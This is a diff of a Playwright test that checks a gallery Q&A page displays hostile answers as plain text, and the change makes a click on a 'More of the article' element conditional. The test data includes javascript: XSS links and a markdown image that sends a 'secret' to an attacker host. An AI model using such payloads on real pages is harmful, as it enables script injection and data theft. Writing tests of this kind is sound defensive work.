@@ -109,7 +109,11 @@ def test_hostile_answers_and_passages_are_shown_as_text(page):
                  "[x](javascript:alert(3))", '<a href="javascript:alert(4)">the archive</a>',
                  f"![](https://{ATTACKER}/?q=secret)"]:  # fmt: skip
         expect(gallery).to_contain_text(text)
-    page.locator(".nq-context summary").first.click()  # "More of the article", if any
+    # Open "More of the article" when the card has one (it depends on how much of the short
+    # article the quote covers); closed or open, its markup is in the DOM _assert_inert checks.
+    more = page.locator(".nq-context summary")
+    if more.count():
+        more.first.click()
 
     cards = _ask(page, "What does the gallery shop next to the new wing sell?", 2)
     shop = cards.filter(has_text="Gallery shop")
